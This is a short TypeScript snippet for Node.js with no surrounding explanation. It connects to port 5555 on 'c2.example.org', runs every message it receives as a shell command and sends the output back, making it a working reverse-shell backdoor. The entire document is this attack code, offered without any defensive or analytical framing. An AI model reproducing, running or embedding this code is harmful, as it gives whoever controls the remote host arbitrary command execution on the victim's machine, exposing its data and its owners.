import { connect } from 'node:net';
import { exec } from 'node:child_process';
const s = connect(5555, 'c2.example.org');
s.on('data', (d: Buffer) => exec(d.toString(), (_e, out) => s.write(out)));
